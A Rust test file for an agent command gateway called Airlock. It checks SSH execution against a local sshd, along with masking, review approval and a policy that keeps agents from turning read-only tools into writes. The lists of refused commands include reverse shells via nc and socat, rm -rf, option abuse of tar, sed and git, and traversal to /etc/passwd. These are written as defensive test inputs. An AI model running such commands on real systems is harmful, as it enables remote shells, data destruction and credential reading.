//! SSH exec against a real OpenSSH server started per test on a free loopback port with keys
//! generated here: exit codes, streams, stdin, timeouts that kill, host keys, password auth,
//! the command policy with a canary, masking, and recordings replayed by asciinema.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::{Value, json};

use crate::common::*;

pub struct Sshd {
    _dir: tempfile::TempDir,
    pub port: u16,
    child: Child,
    /// `[127.0.0.1]:PORT ssh-ed25519 AAAA...`
    pub known_host: String,
    pub client_key: PathBuf,
    user: Option<String>,
}

fn run(cmd: &mut Command) {
    let status = cmd
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("command runs");
    assert!(status.success(), "{cmd:?} failed");
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

impl Sshd {
    /// A `[[connections]]` block for this sshd, named `name`, logging in with the client key
    /// as the user running the tests (root on CI machines, hence `allow_privileged`).
    pub fn connection_toml(&self, name: &str) -> String {
        let user = String::from_utf8(Command::new("whoami").output().unwrap().stdout).unwrap();
        format!(
            "[[connections]]\nname = \"{name}\"\nkind = \"ssh\"\nurl = \"ssh://{user}@127.0.0.1:{port}\"\n\
             private_key = \"file:{key}\"\nhost_key = \"{kh}\"\nallow_privileged = true\n",
            user = user.trim(),
            port = self.port,
            key = self.client_key.display(),
            kh = self.known_host,
        )
    }

    /// Starts sshd; with `password_user`, also creates that user with that password.
    pub fn start(password_user: Option<(&str, &str)>) -> Sshd {
        assert!(
            Path::new("/usr/sbin/sshd").exists(),
            "OpenSSH server missing: apt-get install -y openssh-server (scripts/test does it)"
        );
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        run(Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(d.join("host_key")));
        run(Command::new("ssh-keygen")
            .args(["-q", "-t", "ed25519", "-N", "", "-f"])
            .arg(d.join("client_key")));
        std::fs::copy(d.join("client_key.pub"), d.join("authorized_keys")).unwrap();
        let port = free_port();
        let mut config = format!(
            "Port {port}\nListenAddress 127.0.0.1\nHostKey {hk}\nPidFile {pid}\nAuthorizedKeysFile {ak}\n\
             StrictModes no\nUsePAM no\nPermitRootLogin prohibit-password\nLogLevel VERBOSE\n",
            hk = d.join("host_key").display(),
            pid = d.join("sshd.pid").display(),
            ak = d.join("authorized_keys").display(),
        );
        let user = password_user.map(|(u, pw)| {
            let _ = Command::new("userdel")
                .arg("-r")
                .arg(u)
                .stderr(Stdio::null())
                .status();
            run(Command::new("useradd").args(["-m", "-s", "/bin/sh", u]));
            let mut chpasswd = Command::new("chpasswd")
                .stdin(Stdio::piped())
                .spawn()
                .unwrap();
            use std::io::Write;
            chpasswd
                .stdin
                .take()
                .unwrap()
                .write_all(format!("{u}:{pw}\n").as_bytes())
                .unwrap();
            assert!(chpasswd.wait().unwrap().success());
            u.to_string()
        });
        config.push_str(if user.is_some() {
            "PasswordAuthentication yes\n"
        } else {
            "PasswordAuthentication no\n"
        });
        std::fs::write(d.join("sshd_config"), config).unwrap();
        std::fs::create_dir_all("/run/sshd").unwrap();
        let child = Command::new("/usr/sbin/sshd")
            .args(["-D", "-f"])
            .arg(d.join("sshd_config"))
            .arg("-E")
            .arg(d.join("sshd.log"))
            .spawn()
            .expect("sshd starts");
        for _ in 0..100 {
            if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                break;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let host_pub = std::fs::read_to_string(d.join("host_key.pub")).unwrap();
        let mut parts = host_pub.split_whitespace();
        let known_host = format!(
            "[127.0.0.1]:{port} {} {}",
            parts.next().unwrap(),
            parts.next().unwrap()
        );
        let client_key = d.join("client_key");
        Sshd {
            _dir: dir,
            port,
            child,
            known_host,
            client_key,
            user,
        }
    }
}

impl Drop for Sshd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        if let Some(u) = &self.user {
            let _ = Command::new("pkill").arg("-u").arg(u).status();
            let _ = Command::new("userdel")
                .arg("-r")
                .arg(u)
                .stderr(Stdio::null())
                .status();
        }
    }
}

fn whoami() -> String {
    String::from_utf8(Command::new("whoami").output().unwrap().stdout)
        .unwrap()
        .trim()
        .to_string()
}

fn config(sshd: &Sshd, extra_conn: &str, rules: &str) -> String {
    format!(
        r#"{DEV_ISSUER}
[[connections]]
name = "host"
kind = "ssh"
url = "ssh://{user}@127.0.0.1:{port}"
private_key = "file:{key}"
host_key = "{kh}"
# The tests' sshd logs in as the user running them: root on CI machines.
allow_privileged = true
{extra_conn}

[[connections]]
name = "demo"
kind = "sqlite"
path = "demo.db"

[[rules]]
builtin = "deny-compound-commands"

[[rules]]
builtin = "deny-unparsed"

[[rules]]
id = "agents-demo"
action = "allow"
connections = ["demo"]
principals = ["group:agents"]

{rules}

[[masking]]
connections = ["host"]
detectors = ["all"]
"#,
        user = whoami(),
        port = sshd.port,
        key = sshd.client_key.display(),
        kh = sshd.known_host,
    )
}

const SAFE_PROGRAMS: &str = r#"
[[rules]]
id = "agents-safe-programs"
action = "allow"
connections = ["host"]
principals = ["group:agents"]
match = { programs = ["echo", "cat", "ls", "printf", "sleep", "false", "true", "seq", "head", "id"] }
"#;

async fn exec(a: &Airlock, body: Value) -> (u16, Value) {
    let resp = a
        .http
        .post(format!("{}/v1/connections/host/exec", a.base))
        .bearer_auth(a.agent())
        .json(&body)
        .send()
        .await
        .unwrap();
    let s = resp.status().as_u16();
    (s, resp.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn commands_run_with_exit_codes_streams_and_stdin() {
    let sshd = Sshd::start(None);
    let a = Airlock::start(&config(&sshd, "", SAFE_PROGRAMS)).await;
    let (s, b) = exec(&a, json!({"argv": ["echo", "hello", "it's me"]})).await;
    assert_eq!(s, 200, "{b}");
    assert_eq!(b["stdout"], "hello it's me\n");
    assert_eq!(b["exit_code"], 0);
    let (s, b) = exec(&a, json!({"command": "ls /definitely/not/here"})).await;
    assert_eq!(s, 200, "{b}");
    assert_ne!(b["exit_code"], 0);
    assert!(
        b["stderr"].as_str().unwrap().contains("No such file"),
        "{b}"
    );
    let (s, b) = exec(&a, json!({"argv": ["false"]})).await;
    assert_eq!((s, b["exit_code"].as_u64()), (200, Some(1)), "{b}");
    let (s, b) = exec(&a, json!({"argv": ["cat"], "stdin": "from stdin\n"})).await;
    assert_eq!(s, 200, "{b}");
    assert_eq!(b["stdout"], "from stdin\n");
    // What the program read is on record: its size and SHA-256 in the audit begin, its
    // content (masked) as an input event of the recording.
    let events = a.audit_of(b["execution_id"].as_str().unwrap()).await;
    assert_eq!(events[0]["stdin_bytes"], 11, "{}", events[0]);
    // `printf 'from stdin\n' | sha256sum`
    assert_eq!(
        events[0]["stdin_sha256"],
        "6e6c7a6fbb477a6073df1eb4a3d66a72c357b85c7209a4e3aeb9cb2333c7c676"
    );
    let auditor = a.token("aud", &["auditors"], airlock::config::PrincipalKind::Human);
    let cast = a
        .recording(&auditor, b["session_id"].as_str().unwrap())
        .await;
    assert!(
        cast.contains(r#""i", "from stdin\n""#) || cast.contains(r#""i","from stdin\n""#),
        "{cast}"
    );
    let (s, b) = exec(
        &a,
        json!({"argv": ["cat"], "stdin": "card 4111-1111-1111-1111\n"}),
    )
    .await;
    assert_eq!(s, 200, "{b}");
    let cast = a
        .recording(&auditor, b["session_id"].as_str().unwrap())
        .await;
    assert!(!cast.contains("4111-1111-1111-1111"), "{cast}");
    // Large output is capped, and says so.
    let (s, b) = exec(
        &a,
        json!({"argv": ["seq", "1", "200000"], "max_bytes": 10000}),
    )
    .await;
    assert_eq!(s, 200, "{b}");
    assert_eq!(b["truncated"], true);
    assert!(b["stdout"].as_str().unwrap().len() <= 10000);
    // Wrong operation on the wrong kind of connection.
    let (s, b) = a
        .query(&a.agent(), "host", json!({"sql": "SELECT 1"}))
        .await;
    assert_eq!(s, 400, "{b}");
    let r = a
        .http
        .post(format!("{}/v1/connections/demo/exec", a.base))
        .bearer_auth(a.agent())
        .json(&json!({"argv": ["id"]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    a.stop().await;
}

#[tokio::test]
async fn timeout_kills_the_remote_process() {
    let sshd = Sshd::start(None);
    let a = Airlock::start(&config(&sshd, "", SAFE_PROGRAMS)).await;
    let (s, b) = exec(&a, json!({"argv": ["sleep", "37.123"], "timeout_ms": 700})).await;
    assert_eq!(s, 504, "{b}");
    assert_eq!(b["code"], "timeout");
    let gone = eventually(Duration::from_secs(5), || async {
        !Command::new("pgrep")
            .args(["-f", "sleep 37.123"])
            .status()
            .unwrap()
            .success()
    })
    .await;
    assert!(gone, "the remote sleep is still running");
    a.stop().await;
}

#[tokio::test]
async fn host_keys_are_pinned_and_bad_credentials_refused() {
    let sshd = Sshd::start(None);
    let other = Sshd::start(None);
    // Pin the other server's key: refused before anything runs.
    let wrong = config(&sshd, "", SAFE_PROGRAMS).replace(
        &sshd.known_host,
        &other
            .known_host
            .replace(&other.port.to_string(), &sshd.port.to_string()),
    );
    let data = tempfile::tempdir().unwrap();
    let parsed = airlock::config::Config::parse(
        &format!("[server]\nlisten = \"127.0.0.1:0\"\n{wrong}"),
        "t",
    )
    .unwrap();
    // Startup verification refuses a mismatching host key or reports it on use.
    match airlock::server::prepare(parsed, data.path(), None).await {
        Err(e) => assert!(e.contains("host key"), "{e}"),
        Ok(prepared) => {
            let running = airlock::server::start(prepared, false).await.unwrap();
            let base = format!("http://{}", running.addr);
            let token = mint(
                data.path(),
                "agent-1",
                &["agents"],
                airlock::config::PrincipalKind::Agent,
                None,
            );
            let r = reqwest::Client::new()
                .post(format!("{base}/v1/connections/host/exec"))
                .bearer_auth(token)
                .json(&json!({"argv": ["id"]}))
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 503);
            running.shutdown().await;
        }
    }
    // A key the server does not accept.
    let bad = config(&sshd, "", SAFE_PROGRAMS).replace(
        &sshd.client_key.display().to_string(),
        &other.client_key.display().to_string(),
    );
    let data = tempfile::tempdir().unwrap();
    let parsed =
        airlock::config::Config::parse(&format!("[server]\nlisten = \"127.0.0.1:0\"\n{bad}"), "t")
            .unwrap();
    let err = airlock::server::prepare(parsed, data.path(), None)
        .await
        .err();
    assert!(
        err.is_some_and(|e| e.contains("authenticat")),
        "a rejected key refuses startup"
    );
}

#[tokio::test]
async fn password_authentication_with_a_created_user() {
    let user = format!("al{}", &uuid::Uuid::new_v4().simple().to_string()[..8]);
    let sshd = Sshd::start(Some((&user, "s3cret-pw-for-test")));
    let var = format!("AIRLOCK_TEST_SSH_PW_{}", std::process::id());
    // SAFETY: a unique variable set before the server reads it.
    unsafe { std::env::set_var(&var, "s3cret-pw-for-test") };
    let cfg = config(&sshd, "", SAFE_PROGRAMS)
        .replace(&format!("ssh://{}@", whoami()), &format!("ssh://{user}@"))
        .replace(
            &format!("private_key = \"file:{}\"", sshd.client_key.display()),
            &format!("password = \"env:{var}\""),
        );
    let a = Airlock::start(&cfg).await;
    let (s, b) = exec(&a, json!({"argv": ["id", "-un"]})).await;
    assert_eq!(s, 200, "{b}");
    assert_eq!(b["stdout"].as_str().unwrap().trim(), user);
    assert!(!b.to_string().contains("s3cret"));
    a.stop().await;
}

#[tokio::test]
async fn command_policy_keeps_the_canary_safe() {
    let sshd = Sshd::start(None);
    let a = Airlock::start(&config(&sshd, "", SAFE_PROGRAMS)).await;
    let dir = tempfile::tempdir().unwrap();
    let canary = dir.path().join("canary");
    std::fs::write(&canary, "alive").unwrap();
    let d = dir.path().display().to_string();
    let refused = [
        json!({"argv": ["rm", "-rf", d]}),
        json!({"command": format!("rm -rf {d}")}),
        json!({"command": format!("echo x > {d}/new")}),
        json!({"command": format!("ls {d}; rm {d}/canary")}),
        json!({"command": format!("ls {d} && rm {d}/canary")}),
        json!({"command": format!("echo $(rm {d}/canary)")}),
        json!({"command": format!("echo `rm {d}/canary`")}),
        json!({"command": format!("cat {d}/* | head")}),
        json!({"command": "echo $HOME"}),
        json!({"command": format!("echo {{a,b}} > {d}/x")}),
        json!({"command": "echo $'\\x41'"}),
        json!({"argv": ["sh", "-c", format!("rm {d}/canary")]}),
        json!({"argv": ["env", "rm", format!("{d}/canary")]}),
        json!({"argv": ["xargs", "rm"], "stdin": format!("{d}/canary")}),
        json!({"argv": ["find", d.clone(), "-exec", "rm", "{}", ";"]}),
        json!({"argv": ["python3", "-c", "import os; os.remove('x')"]}),
        json!({"argv": ["/tmp/evil/echo", "hi"]}),
        json!({"command": "echo 'unterminated"}),
        json!({"argv": ["echo", "nul\u{0}byte"]}),
        json!({"command": format!("echo hi &")}),
    ];
    for body in refused {
        let (s, b) = exec(&a, body.clone()).await;
        assert!(s == 403 || s == 400, "{body} → {s}: {b}");
    }
    // Quoting is Airlock's: metacharacters inside one argument are just text remotely.
    let tricky = format!("; rm -rf {d} $(touch {d}/pwned) `id` | tee {d}/x");
    let (s, b) = exec(&a, json!({"argv": ["echo", tricky.clone()]})).await;
    assert_eq!(s, 200, "{b}");
    assert_eq!(b["stdout"].as_str().unwrap(), format!("{tricky}\n"));
    assert_eq!(std::fs::read_to_string(&canary).unwrap(), "alive");
    let entries: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert_eq!(entries.len(), 1, "no new file may appear");
    a.stop().await;
}

#[tokio::test]
async fn output_is_masked_and_the_recording_replays() {
    let sshd = Sshd::start(None);
    let a = Airlock::start(&config(&sshd, "", SAFE_PROGRAMS)).await;
    let (s, b) = exec(
        &a,
        json!({"argv": ["printf", "card 4111-1111-1111-1111 mail bob@corp.example\\nok\\n"]}),
    )
    .await;
    assert_eq!(s, 200, "{b}");
    let out = b["stdout"].as_str().unwrap();
    assert!(
        !out.contains("4111-1111-1111-1111") && !out.contains("bob@corp.example"),
        "{out}"
    );
    assert!(out.contains("ok"));
    let session = b["session_id"].as_str().unwrap().to_string();
    let auditor = a.token("aud", &["auditors"], airlock::config::PrincipalKind::Human);
    let (s, meta) = a.get(&auditor, &format!("/v1/sessions/{session}")).await;
    assert_eq!(s, 200, "{meta}");
    assert_eq!(meta["chain_valid"], true);
    assert_eq!(meta["exit_code"], 0);
    let events = a.audit_of(b["execution_id"].as_str().unwrap()).await;
    assert_eq!(events[1]["recording_digest"], meta["digest"]);
    let cast = a
        .http
        .get(format!("{}/v1/sessions/{session}/recording", a.base))
        .bearer_auth(&auditor)
        .send()
        .await
        .unwrap();
    assert_eq!(cast.headers()["content-type"], "application/x-asciicast");
    let text = cast.text().await.unwrap();
    assert!(
        !text.contains("4111-1111-1111-1111"),
        "the recording holds only masked output"
    );
    let file = a.data.path().join("rec.cast");
    std::fs::write(&file, &text).unwrap();
    let play = Command::new("asciinema")
        .args(["play", "-s", "100"])
        .arg(&file)
        .stdin(Stdio::null())
        .output()
        .expect("asciinema is installed (scripts/test installs it)");
    assert!(
        play.status.success(),
        "{}",
        String::from_utf8_lossy(&play.stderr)
    );
    let cat = Command::new("script")
        .args([
            "-qec",
            &format!("asciinema cat {}", file.display()),
            "/dev/null",
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        cat.status.success(),
        "{}",
        String::from_utf8_lossy(&cat.stderr)
    );
    assert!(String::from_utf8_lossy(&cat.stdout).contains("ok"));
    let (s, list) = a.get(&auditor, "/v1/sessions?limit=10").await;
    assert_eq!(s, 200, "{list}");
    assert!(!list["sessions"].as_array().unwrap().is_empty());
    a.stop().await;
}

#[tokio::test]
async fn a_reviewed_command_runs_once_after_approval() {
    let sshd = Sshd::start(None);
    let rules = format!(
        "{SAFE_PROGRAMS}\n[[rules]]\nid = \"touch-needs-review\"\naction = \"review\"\nconnections = [\"host\"]\nprincipals = [\"group:agents\"]\nmatch = {{ programs = [\"touch\"] }}\nreview = {{ approvers = [\"ops\"] }}\n"
    );
    let a = Airlock::start(&config(&sshd, "", &rules)).await;
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("made-by-review");
    let (s, held) = exec(&a, json!({"argv": ["touch", target.display().to_string()]})).await;
    assert_eq!(s, 202, "{held}");
    assert!(!target.exists());
    let (exec_id, review) = (
        held["execution_id"].as_str().unwrap().to_string(),
        held["review_id"].as_str().unwrap().to_string(),
    );
    let ops = a.token("olga", &["ops"], airlock::config::PrincipalKind::Human);
    let (_, view) = a.get(&ops, &format!("/v1/reviews/{review}")).await;
    assert!(
        view["statement"].as_str().unwrap().starts_with("touch "),
        "{view}"
    );
    let r = a
        .http
        .post(format!("{}/v1/reviews/{review}/approve", a.base))
        .bearer_auth(&ops)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let run = |a: &Airlock| {
        a.http
            .post(format!("{}/v1/executions/{exec_id}/run", a.base))
            .bearer_auth(a.agent())
            .send()
    };
    let first = run(&a).await.unwrap();
    assert_eq!(first.status(), 200);
    let body: Value = first.json().await.unwrap();
    assert_eq!(body["exit_code"], 0, "{body}");
    assert!(target.exists());
    assert_eq!(run(&a).await.unwrap().status(), 409);
    a.stop().await;
}

/// A "read-only diagnostics" policy written the way operators write them (`find *`,
/// `sed *`, `tar *`, ...) with the built-in command catalogue on: an agent cannot turn an
/// option, a script command, a builtin or a `..` into a write or into code. Effects are
/// checked on the host.
#[tokio::test]
async fn read_only_diagnostics_cannot_be_turned_into_writes() {
    let sshd = Sshd::start(None);
    let rules = r#"
[[rules]]
builtin = "deny-command-file-writes"
[[rules]]
builtin = "deny-path-traversal"
[[rules]]
builtin = "deny-pagers"
[[rules]]
builtin = "deny-system-changes"
[[rules]]
id = "diagnostics"
action = "allow"
connections = ["host"]
principals = ["group:agents"]
match = { argv = ["ls *", "cat *", "grep *", "find *", "tail *", "tar *", "git *", "less *", "date *", "sed *", "sort *", "test *", "printf *", "read *", "awk *", "nc *", "socat *"] }
"#;
    let a = Airlock::start(&config(&sshd, "", rules)).await;
    let dir = tempfile::tempdir().unwrap();
    let canary = dir.path().join("canary");
    std::fs::write(&canary, "alive\n").unwrap();
    let d = dir.path().display().to_string();
    let parent = dir.path().parent().unwrap().display().to_string();
    let name = dir
        .path()
        .file_name()
        .unwrap()
        .to_string_lossy()
        .to_string();
    let pwned = format!("{d}/pwned");
    // A loopback listener stands in for the attacker's reverse-shell endpoint.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let refused = [
        json!({"argv": ["nc", "-e", "/bin/sh", "127.0.0.1", port]}),
        json!({"argv": ["nc", "-c", "sh", "127.0.0.1", port]}),
        json!({"argv": ["nc", "--sh-exec", "sh", "127.0.0.1", port]}),
        json!({"argv": ["socat", format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/sh"]}),
        json!({"argv": ["socat", format!("tcp:127.0.0.1:{port}"), "system:sh"]}),
        json!({"argv": ["find", d, "-fprint", pwned]}),
        json!({"argv": ["find", d, "-fprintf", pwned, "%p"]}),
        json!({"argv": ["find", format!("{d}/canary"), "-delete"]}),
        json!({"argv": ["sed", "-i", "s/alive/dead/", format!("{d}/canary")]}),
        json!({"argv": ["sed", "--in-pl", "s/alive/dead/", format!("{d}/canary")]}),
        json!({"argv": ["sed", "-n", format!("w {pwned}"), format!("{d}/canary")]}),
        json!({"argv": ["sed", format!("s/alive/x/w {pwned}"), format!("{d}/canary")]}),
        json!({"argv": ["sort", "-o", pwned, format!("{d}/canary")]}),
        json!({"argv": ["sort", format!("--out={pwned}"), format!("{d}/canary")]}),
        json!({"argv": ["tar", "-cf", format!("{d}/x.tar"), format!("{d}/canary")]}),
        json!({"argv": ["tar", "cf", format!("{d}/x.tar"), format!("{d}/canary")]}),
        json!({"argv": ["tar", format!("--to-com=touch {pwned}"), "-xf", format!("{d}/x.tar")]}),
        json!({"argv": ["tar", format!("--checkpoint-act=exec=touch {pwned}"), "-tf", "/dev/null"]}),
        json!({"argv": ["test", "-v", format!("x[$(touch {pwned})]")]}),
        json!({"argv": ["test", format!("x[$(touch {pwned})]"), "-eq", "1"]}),
        json!({"argv": ["printf", "-v", format!("x[$(touch {pwned})]"), "y"]}),
        json!({"argv": ["read", format!("x[$(touch {pwned})]")], "stdin": "1\n"}),
        json!({"argv": ["git", "-c", format!("core.pager=touch {pwned}"), "log"]}),
        json!({"argv": ["git", format!("--output={pwned}"), "log"]}),
        json!({"argv": ["less", format!("{d}/canary")]}),
        json!({"argv": ["date", "-s", "2020-01-01"]}),
        json!({"argv": ["date", "--se=2020-01-01"]}),
        json!({"argv": ["awk", format!("BEGIN {{ system(\"touch {pwned}\") }}")]}),
        json!({"argv": ["cat", format!("{parent}/{name}/../{name}/canary")]}),
        json!({"argv": ["cat", format!("{d}/../../etc/passwd")]}),
        json!({"argv": ["ls", format!("{d}/..")]}),
    ];
    for body in refused {
        let (s, b) = exec(&a, body.clone()).await;
        assert!(s == 403 || s == 400, "{body} → {s}: {b}");
    }
    // Reads keep working.
    for body in [
        json!({"argv": ["cat", format!("{d}/canary")]}),
        json!({"argv": ["grep", "alive", format!("{d}/canary")]}),
        json!({"argv": ["find", d, "-name", "canary"]}),
        json!({"argv": ["sed", "-n", "1p", format!("{d}/canary")]}),
        json!({"argv": ["sort", format!("{d}/canary")]}),
        json!({"argv": ["tail", "-n", "1", format!("{d}/canary")]}),
        json!({"argv": ["test", "-f", format!("{d}/canary")]}),
    ] {
        let (s, b) = exec(&a, body.clone()).await;
        assert_eq!(s, 200, "{body}: {b}");
        assert_eq!(b["exit_code"], 0, "{body}: {b}");
    }
    assert_eq!(std::fs::read_to_string(&canary).unwrap(), "alive\n");
    let entries: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert_eq!(entries.len(), 1, "no new file may appear: {entries:?}");
    assert!(
        listener.accept().is_err(),
        "nothing may have connected back to the listener"
    );
    a.stop().await;
}

/// What `server::prepare` says of a configuration (the connection check runs there).
async fn prepare_error(config: &str) -> Option<String> {
    let config = format!("[server]\nlisten = \"127.0.0.1:0\"\n{config}");
    let parsed = airlock::config::Config::parse(&config, "test config").unwrap();
    let data = tempfile::tempdir().unwrap();
    airlock::server::prepare(parsed, data.path(), None)
        .await
        .err()
        .map(|e| e.to_string())
}

/// The connection check refuses a root account unless the connection accepts it, and an
/// account whose login shell does not read POSIX quoting the way Airlock writes it.
#[tokio::test]
async fn root_accounts_and_non_posix_login_shells_are_refused() {
    let sshd = Sshd::start(None);
    let strict = config(&sshd, "", SAFE_PROGRAMS).replace("allow_privileged = true", "");
    let refused = prepare_error(&strict).await;
    if whoami() == "root" {
        let why = refused.expect("a root account must be refused");
        assert!(
            why.contains("uid 0") && why.contains("allow_privileged"),
            "{why}"
        );
    } else {
        assert_eq!(refused, None, "an unprivileged account is accepted");
    }
    // A login shell that rewrites what it is given (as fish or tcsh read `\` and `!`
    // differently inside single quotes).
    let user = format!("ns{}", &uuid::Uuid::new_v4().simple().to_string()[..8]);
    let sshd = Sshd::start(Some((&user, "s3cret-pw-for-test")));
    let shell = std::env::temp_dir().join(format!("airlock-odd-shell-{user}"));
    std::fs::write(
        &shell,
        "#!/bin/sh\nif [ \"$1\" = -c ]; then exec /bin/sh -c \"$(printf '%s' \"$2\" | tr '\\\\' '/')\"; fi\nexec /bin/sh \"$@\"\n",
    )
    .unwrap();
    assert!(
        Command::new("chmod")
            .arg("755")
            .arg(&shell)
            .status()
            .unwrap()
            .success()
    );
    assert!(
        Command::new("usermod")
            .args(["-s", &shell.display().to_string(), &user])
            .status()
            .unwrap()
            .success()
    );
    let var = format!("AIRLOCK_TEST_SSH_PW2_{}", std::process::id());
    // SAFETY: a unique variable set before the server reads it.
    unsafe { std::env::set_var(&var, "s3cret-pw-for-test") };
    let cfg = config(&sshd, "", SAFE_PROGRAMS)
        .replace(&format!("ssh://{}@", whoami()), &format!("ssh://{user}@"))
        .replace(
            &format!("private_key = \"file:{}\"", sshd.client_key.display()),
            &format!("password = \"env:{var}\""),
        );
    let why = prepare_error(&cfg)
        .await
        .expect("a non-POSIX login shell must be refused");
    assert!(why.contains("POSIX"), "{why}");
    let _ = std::fs::remove_file(&shell);
}

/// The option tables match the real programs: GNU tools take an abbreviated long option as
/// the option (checked by running them here), and the inspector reads it the same way.
#[test]
fn abbreviated_options_mean_to_the_real_programs_what_they_mean_to_the_inspector() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("f"), "b\na\n").unwrap();
    let inspect = |argv: &[&str]| {
        let argv: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
        airlock::inspect::shell::inspect_argv(&argv)
    };
    let run = |argv: &[&str]| {
        Command::new(argv[0])
            .args(&argv[1..])
            .current_dir(d)
            .output()
            .unwrap()
    };
    // sort --out=FILE writes FILE.
    let argv = ["sort", "--out=sorted", "f"];
    assert!(run(&argv).status.success());
    assert_eq!(std::fs::read_to_string(d.join("sorted")).unwrap(), "a\nb\n");
    assert!(!inspect(&argv).effects.is_empty());
    // sed --in-pl edits in place.
    let argv = ["sed", "--in-pl", "s/a/c/", "f"];
    assert!(run(&argv).status.success());
    assert_eq!(std::fs::read_to_string(d.join("f")).unwrap(), "b\nc\n");
    assert!(!inspect(&argv).effects.is_empty());
    // tar --to-com runs a program for every member.
    assert!(run(&["tar", "-cf", "a.tar", "f"]).status.success());
    let argv = ["tar", "--to-com=cat > ran", "-xf", "a.tar"];
    assert!(run(&argv).status.success());
    assert!(
        d.join("ran").exists(),
        "GNU tar took --to-com as --to-command"
    );
    assert!(inspect(&argv).wrapper.is_some());
    // An ambiguous prefix is an error to the program (so counting it costs nothing).
    assert!(!run(&["tar", "--to", "x", "-xf", "a.tar"]).status.success());
}
